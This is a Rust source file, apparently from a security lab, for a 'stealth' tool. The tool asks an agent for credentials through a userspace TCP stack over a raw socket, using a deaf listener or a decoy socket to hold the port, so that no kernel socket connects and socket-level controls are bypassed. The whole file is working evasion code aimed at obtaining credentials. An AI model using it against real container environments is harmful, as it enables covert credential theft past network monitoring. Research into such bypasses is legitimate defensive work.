//! Asks the agent for credentials with a TCP stack of its own, which needs CAP_NET_RAW only (containerd's default): no socket
//! of the kernel's ever connects.
//!
//! `stealth [--decoy] ADDR:PORT`, IPv4. A raw socket sends and receives. A listening socket that is deaf holds the
//! port, so that the kernel does not answer what comes back with a reset. With `--decoy` a connecting socket holds it instead:
//! its SYN is the kernel's, and it stays deaf to the answer, which the raw socket takes.

use std::{net::SocketAddrV4, os::fd::OwnedFd, time::Duration};

use anyhow::{Context, Result, ensure};
use lab::{
    sys::deaf::deafen,
    userspace_tcp::{self, Wire},
};
use rustix::{
    io::Errno,
    net::{
        AddressFamily, RecvFlags, SendFlags, SocketFlags, SocketType, bind, connect, getsockname,
        ipproto, recv, sendto, socket_with, sockopt,
    },
};

fn main() -> Result<()> {
    let mut args = std::env::args().skip(1).peekable();
    let is_decoy = args.next_if(|arg| arg == "--decoy").is_some();
    let address = args.next().context("usage: stealth [--decoy] ADDR:PORT")?;
    let server: SocketAddrV4 = address.parse().context(address)?;
    let own = userspace_tcp::source_for(server)?;
    let (holder, client): (OwnedFd, SocketAddrV4) = if is_decoy {
        let decoy = socket_with(
            AddressFamily::INET,
            SocketType::STREAM,
            SocketFlags::CLOEXEC | SocketFlags::NONBLOCK,
            None,
        )?;
        bind(&decoy, &SocketAddrV4::new(own, 0))?;
        deafen(&decoy, server.into()).context("make it deaf")?;
        let client = SocketAddrV4::try_from(getsockname(&decoy)?)?;
        (decoy, client)
    } else {
        let (listener, client) = userspace_tcp::hold_port(own)?;
        (listener.into(), client)
    };

    let socket = socket_with(
        AddressFamily::INET,
        SocketType::RAW,
        SocketFlags::CLOEXEC,
        Some(ipproto::TCP),
    )
    .context("open a raw socket")?;
    sockopt::set_socket_timeout(
        &socket,
        sockopt::Timeout::Recv,
        Some(Duration::from_millis(200)),
    )?;
    let greet = &mut || -> Result<()> {
        ensure!(
            connect(&holder, &server) == Err(Errno::INPROGRESS),
            "the decoy's connect does not stay in progress"
        );
        Ok(())
    };
    let greet: Option<&mut dyn FnMut() -> Result<()>> = if is_decoy { Some(greet) } else { None };
    let answered = userspace_tcp::ask(&mut Raw { socket, server }, client, server, greet)?;
    println!("{server}: {answered} bytes of an answer");
    Ok(())
}

struct Raw {
    socket: OwnedFd,
    server: SocketAddrV4,
}

impl Wire for Raw {
    fn send(&mut self, segment: &[u8]) -> Result<()> {
        sendto(&self.socket, segment, SendFlags::empty(), &self.server)?;
        Ok(())
    }

    fn receive(&mut self, buffer: &mut [u8]) -> Option<usize> {
        let (length, _) = recv(&self.socket, buffer, RecvFlags::empty()).ok()?;
        Some(length)
    }
}
